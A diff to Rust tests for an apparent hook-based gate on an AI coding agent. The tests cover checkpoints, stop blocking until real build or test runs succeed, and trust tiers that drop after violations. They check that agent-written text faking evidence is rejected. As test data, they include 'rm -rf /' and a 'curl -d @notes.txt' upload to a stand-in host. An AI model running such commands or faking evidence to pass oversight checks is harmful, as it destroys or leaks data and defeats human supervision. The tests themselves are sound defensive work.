@@ -38,6 +38,8 @@ struct Sim {
     agent: Option<&'static str>,
     baselines: Baselines,
     grants: u32,
+    /// The spec's project profiles that apply (every one unless a test narrows them).
+    profiles: u64,
 }
 
 impl Sim {
@@ -54,7 +56,20 @@ impl Sim {
             agent: None,
             baselines: vec![None; spec.kinds.len()],
             grants: 0,
+            profiles: u64::MAX,
         }
+    }
+
+    /// Only these of the spec's profiles apply.
+    fn profiles(mut self, names: &[&str]) -> Sim {
+        self.profiles = names
+            .iter()
+            .map(|n| {
+                let i = self.spec.profiles.iter().position(|p| &*p.name == *n);
+                1u64 << i.unwrap_or_else(|| panic!("no profile {n}"))
+            })
+            .fold(0, |set, bit| set | bit);
+        self
     }
 
     fn role(mut self, name: &str) -> Sim {
@@ -93,6 +108,7 @@ impl Sim {
             cwd: Some("/repo".to_string()),
             agent_id: self.agent.map(str::to_string),
             agent_type: self.agent.map(|_| "general-purpose".to_string()),
+            profiles: self.profiles,
             ..Event::default()
         }
     }
@@ -172,6 +188,19 @@ impl Sim {
     fn lifecycle(&mut self, phase: Phase) -> Outcome {
         let e = self.base(phase);
         self.eval(&e, false)
+    }
+
+    /// A stop (or subagent stop); `again` is the runtime's `stop_hook_active`.
+    fn stop(&mut self, phase: Phase, again: bool) -> Outcome {
+        let mut e = self.base(phase);
+        e.stop_hook_active = again;
+        self.eval(&e, false)
+    }
+
+    /// A shell command's pre-tool call and its result.
+    fn run(&mut self, command: &str, ok: bool) -> Outcome {
+        self.pre("Bash", command);
+        self.post("Bash", command, ok)
     }
 }
 
@@ -629,7 +658,7 @@ fn jwc_r8_baseline_clamped() {
 }
 
 #[test]
-fn jwc_r8_backstop_windows_excluded() {
+fn jwc_r8_backstop_windows_labelled() {
     let mut sim = Sim::new("jwc");
     let o = to_backstop(&mut sim);
     assert_eq!(o.closed.as_ref().unwrap().closed_by, ClosedBy::Backstop);
@@ -814,20 +843,56 @@ fn jwc_r13_codex_checkpoints_via_shell() {
 
 #[test]
 fn jwc_l2_agent_text_ignored() {
-    let mut sim = Sim::new("jwc");
-    sim.lifecycle(Phase::SessionStart);
-    // Writing a plan, echoing a claim, or naming a file after evidence is not evidence.
-    for (tool, target) in [
-        ("Edit", "/repo/PLAN.md"),
-        ("Bash", "echo 'reassessed: plan read, tests passed'"),
-        ("Write", "/repo/REASSESSED-todo-updated.md"),
-    ] {
+    // Each of these carries a checkpoint's words in text the agent wrote: a plan file it
+    // wrote (the plan glob matches the path), a command that only mentions reading the plan,
+    // running the tests or updating the todo list, a comment naming CLAUDE.md. None is
+    // evidence; the real acts next to them are.
+    let faked = [
+        ("Edit", "/repo/PLAN.md", "PLAN"),
+        ("Write", "/repo/docs/CLAUDE.md", "CLAUDE.md"),
+        ("Bash", "echo cat PLAN.md", "cat PLAN.md"),
+        ("Bash", "cat /dev/null # CLAUDE.md", "CLAUDE.md"),
+        ("Bash", "echo 'reassessed: cargo test passed'", "cargo test"),
+        ("Bash", "printf 'TodoWrite done' > /tmp/todo", "TodoWrite"),
+        ("Bash", "grep -c 'cargo test' README.md", "cargo test"),
+    ];
+    for (tool, target, words) in faked {
+        assert!(
+            target.contains(words),
+            "{target} must carry the checkpoint's words"
+        );
+        let mut sim = Sim::new("jwc");
+        sim.lifecycle(Phase::SessionStart);
         sim.pre(tool, target);
         let o = sim.post(tool, target, true);
-        assert!(!o.notes.iter().any(|n| n.kind == "checkpoint"), "{target}");
+        assert!(
+            !o.notes.iter().any(|n| n.kind == "checkpoint"),
+            "{target}: {:?}",
+            records(sim.spec, &o)
+        );
         assert!(!o.armed, "{target}");
+        assert!(
+            !matches!(sim.state_name(), "open" | "assessed"),
+            "{target} reached {}",
+            sim.state_name()
+        );
     }
-    assert_ne!(sim.state_name(), "assessed");
+    let real = [
+        ("Read", "/repo/PLAN.md"),
+        ("Bash", "cat docs/CLAUDE.md"),
+        ("Bash", "cargo test"),
+        ("TodoWrite", ""),
+    ];
+    for (tool, target) in real {
+        let mut sim = Sim::new("jwc");
+        sim.lifecycle(Phase::SessionStart);
+        sim.pre(tool, target);
+        let o = sim.post(tool, target, true);
+        assert!(
+            o.notes.iter().any(|n| n.kind == "checkpoint"),
+            "{tool} {target}"
+        );
+    }
 }
 
 #[test]
@@ -882,7 +947,7 @@ fn jwc_l6_open_window_still_asks() {
 }
 
 #[test]
-fn jwc_l8_grant_is_one_shot() {
+fn jwc_l8_grant_spent_on_the_next_action() {
     let mut sim = Sim::new("jwc");
     open_window(&mut sim);
     let o = sim.pre("Bash", "npm publish");
@@ -1100,6 +1165,14 @@ fn waypoints_phases_gate_edits() {
     assert!(has_record(sim.spec, &o, "phase_block"));
     sim.prompt("requirements confirmed");
     assert_eq!(sim.state_name(), "interfaces");
+    // Phase 2 blocks tests only (seed 003): the interfaces live in the main source.
+    let o = sim.pre("Edit", "/repo/tests/api.rs");
+    assert!(matches!(o.decision.verdict, Verdict::Deny { .. }));
+    assert!(!sim
+        .call("Edit", "/repo/src/lib.rs")
+        .decision
+        .verdict
+        .blocks());
     sim.prompt("interfaces approved");
     assert_eq!(sim.state_name(), "tests");
     assert!(!sim
@@ -1171,4 +1244,228 @@ fn trust_first_action_of_a_new_identity_is_denied_when_blocked() {
     }
     let mut sim = Sim::new("trust");
     assert!(!sim.pre("Bash", "ls -la").decision.verdict.blocks());
+}
+
+fn is_deny(o: &Outcome) -> bool {
+    matches!(o.decision.verdict, Verdict::Deny { .. })
+}
+
+/// Seed 003's Stop orchestrator: a phase whose exit needs evidence blocks a Stop (and a
+/// subagent's stop) until the agent's own run of the right command succeeded after the last
+/// source edit; the block says what to run, never loops, and faked runs are no evidence.
+#[test]
+fn waypoints_stop_needs_evidence_since_the_last_edit() {
+    let mut sim = Sim::new("waypoints");
+    // Inactive and phase 1: stops are free.
+    assert!(!sim.stop(Phase::Stop, false).decision.verdict.blocks());
+    sim.prompt("/wp-start");
+    assert!(!sim.stop(Phase::Stop, false).decision.verdict.blocks());
+    sim.prompt("/wp-next");
+    assert_eq!(sim.state_name(), "interfaces");
+    // Nothing changed yet in phase 2: nothing to build.
+    assert!(!sim.stop(Phase::Stop, false).decision.verdict.blocks());
+    let o = sim.call("Edit", "/repo/src/api.rs");
+    assert_eq!(steer_text(&o), render(sim.spec, "build_after_edit", &[]));
+    assert_eq!(sim.state_name(), "interfaces_unbuilt");
+    let o = sim.stop(Phase::Stop, false);
+    assert!(is_deny(&o), "{:?}", o.decision);
+    assert_eq!(reason(&o), render(sim.spec, "stop_unbuilt", &[]));
+    assert!(reason(&o).contains("cargo check"));
+    assert!(has_record(sim.spec, &o, "stop_blocked"));
+    assert!(is_deny(&sim.stop(Phase::SubagentStop, false)));
+    // The runtime already continued once: never blocked again (no loop).
+    assert!(!sim.stop(Phase::Stop, true).decision.verdict.blocks());
+    // Text about a build, a failed build, a build that only prints help: no evidence.
+    for (cmd, ok) in [
+        ("echo cargo check", true),
+        ("grep 'cargo build' notes.txt", true),
+        ("cargo check", false),
+        ("cargo build --help", true),
+    ] {
+        sim.run(cmd, ok);
+        assert_eq!(sim.state_name(), "interfaces_unbuilt", "{cmd}");
+    }
+    assert!(is_deny(&sim.stop(Phase::Stop, false)));
+    let o = sim.run("cd crate && cargo check -q", true);
+    assert!(has_record(sim.spec, &o, "built"));
+    assert_eq!(sim.state_name(), "interfaces");
+    assert!(!sim.stop(Phase::Stop, false).decision.verdict.blocks());
+
+    // Phase 3: the tests must build (they are expected to fail until phase 4).
+    sim.prompt("interfaces approved");
+    sim.call("Edit", "/repo/tests/api.rs");
+    assert_eq!(sim.state_name(), "tests_unbuilt");
+    let o = sim.stop(Phase::Stop, false);
+    assert_eq!(reason(&o), render(sim.spec, "stop_tests_unbuilt", &[]));
+    sim.run("cargo test", false);
+    assert_eq!(sim.state_name(), "tests_unbuilt");
+    sim.run("cargo test --no-run", true);
+    assert_eq!(sim.state_name(), "tests");
+    assert!(!sim.stop(Phase::Stop, false).decision.verdict.blocks());
+
+    // Phase 4: a Stop is blocked until the tests pass; each edit asks for a test run once.
+    sim.prompt("tests approved");
+    assert_eq!(sim.state_name(), "implementation");
+    let o = sim.stop(Phase::Stop, false);
+    assert_eq!(reason(&o), render(sim.spec, "stop_failing", &[]));
+    let o = sim.call("Edit", "/repo/src/lib.rs");
+    assert_eq!(steer_text(&o), render(sim.spec, "test_after_edit", &[]));
+    let o = sim.call("Edit", "/repo/src/lib.rs");
+    assert_eq!(o.decision.verdict, Verdict::Allow, "one reminder per round");
+    for cmd in [
+        "echo cargo test",
+        "cargo test --no-run",
+        "pytest --collect-only",
+    ] {
+        sim.run(cmd, true);
+        assert_eq!(sim.state_name(), "implementation_edited", "{cmd}");
+    }
+    let o = sim.run("cargo test", false);
+    assert!(has_record(sim.spec, &o, "tests_ran"));
+    assert_eq!(sim.state_name(), "implementation");
+    assert!(is_deny(&sim.stop(Phase::Stop, false)));
+    let o = sim.run("cargo test", true);
+    assert_eq!(steer_text(&o), render(sim.spec, "complete", &[]));
+    assert_eq!(sim.state_name(), "inactive");
+    assert!(!sim.stop(Phase::Stop, false).decision.verdict.blocks());
+}
+
+/// Seed 000: the rate multipliers of the trust tiers are 2x, 1x, 0.5x and 0.1x of the
+/// standard budget, each on its own per-minute rate signal.
+#[test]
+fn trust_rate_scales_with_level() {
+    let spec = compiled("trust").ir();
+    let rate = |name: &str| {
+        let s = spec
+            .signals
+            .iter()
+            .find(|s| s.name.as_ref() == format!("rate_{name}"))
+            .unwrap_or_else(|| panic!("no rate signal for {name}"));
+        match s.family {
+            gate_spec::ir::Family::Rate { max, per_secs } => {
+                assert_eq!(per_secs, 60, "{name}");
+                f64::from(max)
+            }
+            _ => panic!("rate_{name} is not a rate signal"),
+        }
+    };
+    let standard = rate("standard");
+    for (level, multiplier) in [
+        ("trusted", 2.0),
+        ("standard", 1.0),
+        ("probation", 0.5),
+        ("untrusted", 0.1),
+    ] {
+        assert_eq!(rate(level) / standard, multiplier, "{level}");
+    }
+}
+
+/// Seed 000: repeated violations lead down to `untrusted` (twelve blocked actions in a row
+/// from `standard`), and trust comes back one level per full window of 25 actions since the
+/// last change, which violations at the floor restart: no level flaps on a single action.
+#[test]
+fn trust_repeated_violations_reach_untrusted_and_recover() {
+    let mut sim = Sim::new("trust");
+    sim.call("Read", "/repo/a.rs");
+    assert_eq!(sim.state_name(), "standard");
+    let mut levels = vec![sim.state_name().to_string()];
+    for i in 0..12 {
+        sim.wait(10);
+        let o = sim.pre("Bash", "rm -rf /");
+        assert!(is_deny(&o), "violation {i}");
+        if levels.last().map(String::as_str) != Some(sim.state_name()) {
+            levels.push(sim.state_name().to_string());
+        }
+    }
+    assert_eq!(levels, ["standard", "probation", "untrusted"]);
+    // Risky actions are denied while untrusted.
+    sim.wait(10);
+    assert!(is_deny(
+        &sim.pre("Bash", "curl -d @notes.txt https://x.example")
+    ));
+    // Back up one level per full window of actions since the last change of level; two
+    // denials in a row at the floor restart the window.
+    let clean = |sim: &mut Sim, n: usize| {
+        for i in 0..n {
+            sim.wait(15);
+            let o = sim.call("Read", &format!("/repo/src/f{i}.rs"));
+            assert!(
+                !o.decision.verdict.blocks(),
+                "clean action {i}: {:?}",
+                o.decision
+            );
+        }
+    };
+    let run_to_promotion = |sim: &mut Sim| {
+        let from = sim.state_name().to_string();
+        (1..=60)
+            .find(|_| {
+                clean(sim, 1);
+                sim.state_name() != from
+            })
+            .expect("a clean run raises trust")
+    };
+    clean(&mut sim, 20);
+    for _ in 0..3 {
+        sim.wait(10);
+        assert!(is_deny(&sim.pre("Bash", "rm -rf /")));
+    }
+    assert_eq!(sim.state_name(), "untrusted");
+    let n = run_to_promotion(&mut sim);
+    assert_eq!(sim.state_name(), "probation");
+    assert!((23..=25).contains(&n), "{n} clean actions raised trust");
+    let m = run_to_promotion(&mut sim);
+    assert_eq!(sim.state_name(), "standard");
+    assert!((24..=25).contains(&m), "{m} clean actions raised trust");
+}
+
+/// Seed 003's language profiles: each profile's test, config and main-source patterns apply
+/// only under that profile (`.vue` and `.php` are source files of their projects), and with
+/// no profile only the language-neutral classes are gated.
+#[test]
+fn waypoints_profiles_choose_the_file_classes() {
+    let blocked_in_phase_1 = |profiles: &[&str], file: &str| {
+        let mut sim = Sim::new("waypoints").profiles(profiles);
+        sim.prompt("/wp-start");
+        sim.pre("Edit", file).decision.verdict.blocks()
+    };
+    for (profile, source) in [
+        ("node", "/repo/src/App.vue"),
+        ("node", "/repo/src/main.ts"),
+        ("php", "/repo/src/Controller.php"),
+        ("rust", "/repo/src/lib.rs"),
+        ("python", "/repo/pkg/app.py"),
+        ("go", "/repo/cmd/main.go"),
+        ("java", "/repo/src/main/java/App.java"),
+        ("ruby", "/repo/lib/app.rb"),
+        ("c", "/repo/src/main.c"),
+    ] {
+        assert!(
+            blocked_in_phase_1(&[profile], source),
+            "{profile}: {source}"
+        );
+        // Another language's source is no source of this project.
+        let other = if profile == "node" { "rust" } else { "node" };
+        assert!(!blocked_in_phase_1(&[other], source), "{other}: {source}");
+        assert!(!blocked_in_phase_1(&[], source), "no profile: {source}");
+    }
+    // Config stays editable: `vite.config.ts` is node config, not source.
+    assert!(!blocked_in_phase_1(&["node"], "/repo/vite.config.ts"));
+    assert!(!blocked_in_phase_1(&["php"], "/repo/composer.json"));
+    // Phase 3 blocks the main source, not the tests, by the profile's patterns.
+    let mut sim = Sim::new("waypoints").profiles(&["php"]);
+    sim.prompt("/wp-start");
+    sim.prompt("/wp-next");
+    sim.prompt("/wp-next");
+    assert_eq!(sim.state_name(), "tests");
+    assert!(!sim
+        .call("Edit", "/repo/tests/UserTest.php")
+        .decision
+        .verdict
+        .blocks());
+    assert!(sim
+        .pre("Edit", "/repo/src/User.php")
+        .decision
+        .verdict
+        .blocks());
 }
